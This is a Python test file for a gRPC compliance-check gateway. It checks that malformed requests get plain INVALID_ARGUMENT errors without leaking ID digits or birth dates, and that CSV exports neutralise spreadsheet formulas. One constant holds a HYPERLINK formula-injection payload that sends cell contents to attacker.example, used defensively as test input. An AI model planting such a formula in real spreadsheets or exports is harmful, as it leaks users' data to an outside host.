"""Malformed requests and leaky errors (issue 19, item 5), over raw gRPC channels: bytes that are no
message, invalid UTF-8 in a string field and huge fields get INVALID_ARGUMENT with a plain message that
quotes at most 64 characters of any input and no digit a masked identifier hides."""

from __future__ import annotations

import csv
import datetime as dt
import io
from typing import Any

import grpc
import pytest

from mustcheck import Client
from mustcheck._channel import auth_metadata
from mustcheck._generated.v1 import (
    audit_pb2,
    audit_pb2_grpc,
    check_pb2,
    check_pb2_grpc,
    lists_pb2,
    lists_pb2_grpc,
)
from mustcheck.identifiers import IdentifierError, citizen_id_check_character, validate_uscc
from mustcheck_gateway.audit.backends import is_audit_log
from mustcheck_gateway.csv_cells import FORMULA_STARTS
from mustcheck_gateway.server import Gateway

from factories import days, make_entry, new_citizen_id, new_uscc
from provision import provision

CHECK = "/mustcheck.v1.CheckService/Check"
BATCH = "/mustcheck.v1.CheckService/BatchCheck"
WATCH = "/mustcheck.v1.CheckService/Watch"
IMPORT = "/mustcheck.v1.ListsService/Import"
CALLERS = "/mustcheck.v1.AdminService/GetCaller"
INTERNAL_WORDS = ("DecodeError", "Exception", "Error parsing", "class", "Unexpected", "Traceback")


def _field(number: int, value: bytes) -> bytes:
    """A length-delimited protobuf field (wire type 2), for values a serializer would refuse to write."""
    size, length = bytearray(), len(value)
    while True:
        size.append((length & 0x7F) | (0x80 if length > 0x7F else 0))
        length >>= 7
        if not length:
            break
    return bytes([number << 3 | 2]) + bytes(size) + value


GARBAGE = {
    "undecodable": b"\xff\xff\xff\xff\x0f",
    "truncated": _field(1, b"91350100M000100Y43")[:-4],
    "invalid utf-8": _field(1, b"\xc3\x28\xa0\xa1") + _field(2, b"MOF-0001"),
}


def _assert_plain(error: grpc.RpcError) -> str:
    assert error.code() is grpc.StatusCode.INVALID_ARGUMENT, error
    details = error.details() or ""
    assert details and not any(word in details for word in INTERNAL_WORDS), details
    return details


@pytest.mark.parametrize("garbage", GARBAGE.values(), ids=GARBAGE.keys())
@pytest.mark.parametrize("method", [CHECK, BATCH, CALLERS])
def test_undecodable_unary_requests_get_invalid_argument(
    gateway: Gateway, target: str, token: str, method: str, garbage: bytes
) -> None:
    audit = gateway.audit
    assert is_audit_log(audit)

    def audited() -> int:
        return len(audit.query(kind="malformed_request", caller_id="tester", limit=10_000))

    before = audited()
    with grpc.insecure_channel(target) as channel:
        call = channel.unary_unary(method, request_serializer=None, response_deserializer=None)
        with pytest.raises(grpc.RpcError) as raised:
            call(garbage, metadata=auth_metadata(token), timeout=10)
    _assert_plain(raised.value)
    trailers: Any = raised.value.trailing_metadata() or ()
    assert ("mustcheck-reason", "request.malformed") in [(key, value) for key, value in trailers]
    assert audited() == before + 1  # audited, with the caller its token names
    record = audit.query(kind="malformed_request", caller_id="tester", limit=1)[0]
    assert record.status == "INVALID_ARGUMENT" and record.detail["method"] == method


def test_undecodable_streaming_requests_get_invalid_argument(
    target: str, token: str, admin_token: str
) -> None:
    with grpc.insecure_channel(target) as channel:
        watch = channel.unary_stream(WATCH, request_serializer=None, response_deserializer=None)
        stream: Any = watch(GARBAGE["undecodable"], metadata=auth_metadata(token), timeout=10)
        with pytest.raises(grpc.RpcError) as raised:
            next(stream)
        _assert_plain(raised.value)
        upload = channel.stream_unary(IMPORT, request_serializer=None, response_deserializer=None)
        with pytest.raises(grpc.RpcError) as raised:
            upload(iter([GARBAGE["undecodable"]]), metadata=auth_metadata(admin_token), timeout=10)
        _assert_plain(raised.value)


def test_a_huge_field_is_quoted_64_characters_at_most(target: str, token: str) -> None:
    matter = "M" + "x" * (1 << 20)  # a 1 MB matter code
    with grpc.insecure_channel(target) as channel:
        stub = check_pb2_grpc.CheckServiceStub(channel)
        with pytest.raises(grpc.RpcError) as single:
            stub.Check(
                check_pb2.CheckRequest(subject=new_uscc(), matter=matter),
                metadata=auth_metadata(token),
                timeout=30,
            )
        with pytest.raises(grpc.RpcError) as batch:
            stub.BatchCheck(
                check_pb2.BatchCheckRequest(subjects=[new_uscc()], matter=matter),
                metadata=auth_metadata(token),
                timeout=30,
            )
    for raised in (single, batch):
        details = raised.value.details() or ""
        assert raised.value.code() in (grpc.StatusCode.NOT_FOUND, grpc.StatusCode.INVALID_ARGUMENT)
        assert 0 < len(details) <= 512 and "x" * 65 not in details, details[:200]


def test_an_invalid_id_number_is_refused_without_its_birth_date(target: str, token: str) -> None:
    born = dt.date.today() + dt.timedelta(days=400)
    body = f"110105{born:%Y%m%d}123"
    future = body + citizen_id_check_character(body)
    with grpc.insecure_channel(target) as channel:
        stub = check_pb2_grpc.CheckServiceStub(channel)
        with pytest.raises(grpc.RpcError) as raised:
            stub.Check(
                check_pb2.CheckRequest(
                    subject=future, matter="MOF-0001", subject_kind=check_pb2.SUBJECT_KIND_PERSON
                ),
                metadata=auth_metadata(token),
                timeout=10,
            )
        details = _assert_plain(raised.value)
        assert f"{born:%Y%m%d}" not in details and born.isoformat() not in details
        assert "birth date" in details
        batch = stub.BatchCheck(
            check_pb2.BatchCheckRequest(subjects=[future], matter="MOF-0001"),
            metadata=auth_metadata(token),
            timeout=10,
        )
        message = batch.items[0].error.message
        assert message and born.isoformat() not in message and f"{born:%Y%m%d}" not in message


def test_an_id_number_checked_as_a_company_is_refused_without_its_digits(target: str, token: str) -> None:
    # Read as a credit code, an ID number's birth date and sequence would be "the embedded organisation
    # code": the refusal names the rule and the positions, not the digits.
    number = next(n for n in iter(new_citizen_id, None) if _uscc_rule(n) == "uscc.organization_code_check")
    with grpc.insecure_channel(target) as channel:
        stub = check_pb2_grpc.CheckServiceStub(channel)
        with pytest.raises(grpc.RpcError) as raised:
            stub.Check(
                check_pb2.CheckRequest(
                    subject=number, matter="MOF-0001", subject_kind=check_pb2.SUBJECT_KIND_ORGANIZATION
                ),
                metadata=auth_metadata(token),
                timeout=10,
            )
    details = _assert_plain(raised.value)
    assert "[uscc.organization_code_check]" in details
    assert number[6:14] not in details and number[8:17] not in details


def _uscc_rule(text: str) -> str:
    try:
        validate_uscc(text)
    except IdentifierError as error:
        return error.rule
    return ""


# -- CSV exports --------------------------------------------------------------------------------

FORMULA = '=HYPERLINK("http://attacker.example/?leak="&A1,"open me")'


def _cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def _assert_inert(rows: list[list[str]]) -> None:
    """No cell a spreadsheet would run: each begins with none of = + - @ tab CR."""
    runnable = [cell for row in rows for cell in row if cell.startswith(FORMULA_STARTS)]
    assert runnable == []


def test_csv_exports_neutralise_formulas(gateway: Gateway, target: str, admin_token: str) -> None:
    auditor = provision(target, admin_token, "csv-auditor", roles=["auditor"])
    token = provision(target, admin_token, "csv-checker")
    with Client(target, token=token) as client:
        client.check(new_uscc(), "MOF-0001", purpose=FORMULA)
        client.check(new_uscc(), "MOF-0001", purpose="@SUM(1+1)", authorization_ref="-2+3")
    listed = make_entry(new_uscc(), effective=gateway.engine.clock() - days(1), name=FORMULA)
    gateway.store.write_entries([listed], actor="test", action="add")
    with grpc.insecure_channel(target) as channel:
        audit = audit_pb2_grpc.AuditServiceStub(channel)
        exported = "".join(
            chunk.data
            for chunk in audit.Export(
                audit_pb2.ExportRequest(format="csv", filter=audit_pb2.AuditQuery(caller_id="csv-checker")),
                metadata=auth_metadata(auditor),
                timeout=30,
            )
        )
        lists = lists_pb2_grpc.ListsServiceStub(channel)
        published = "".join(
            chunk.data
            for chunk in lists.Export(
                lists_pb2.ExportListsRequest(format="csv"), metadata=auth_metadata(admin_token), timeout=30
            )
        )
    for text in (exported, published):
        rows = _cells(text)
        _assert_inert(rows)
        assert any(cell == "'" + FORMULA for row in rows for cell in row)  # kept, as text
    audit_cells = {cell for row in _cells(exported) for cell in row}
    assert {"'@SUM(1+1)", "'-2+3"} <= audit_cells


def test_a_report_whose_text_repeats_the_subject_is_refused_and_audited_not_internal(
    gateway: Gateway, target: str, token: str
) -> None:
    # The decision field carrying the subject's own ID number: a wrong decision, refused by name and
    # audited with the subject named, never written out (and never an INTERNAL that leaves no trace).
    subject = new_citizen_id()
    stub = check_pb2_grpc.CheckServiceStub(grpc.insecure_channel(target))
    with pytest.raises(grpc.RpcError) as caught:
        stub.ReportOutcome(
            check_pb2.OutcomeReport(
                approval_id="A-REPEAT-1", decision=subject, matter="MOF-0001", subject=subject
            ),
            metadata=auth_metadata(token),
            timeout=10,
        )
    assert caught.value.code() is grpc.StatusCode.INVALID_ARGUMENT
    assert is_audit_log(gateway.audit)
    (record,) = [r for r in gateway.audit.query(kind="feedback", limit=1000) if "A-REPEAT-1" in str(r.detail)]
    assert record.status == "INVALID_ARGUMENT" and subject not in str(record.detail)


def test_a_malformed_import_chunk_is_audited_once(gateway: Gateway, target: str, admin_token: str) -> None:
    assert is_audit_log(gateway.audit)
    before = gateway.audit.last_seq
    with grpc.insecure_channel(target) as channel:
        upload = channel.stream_unary(IMPORT, request_serializer=None, response_deserializer=None)
        with pytest.raises(grpc.RpcError):
            upload(iter([GARBAGE["undecodable"]]), metadata=auth_metadata(admin_token), timeout=10)
    added = list(gateway.audit.records(since_seq=before + 1))
    malformed = [r for r in added if r.detail.get("reason") == "request.malformed"]
    assert len(malformed) == 1 and malformed[0].kind == "malformed_request"
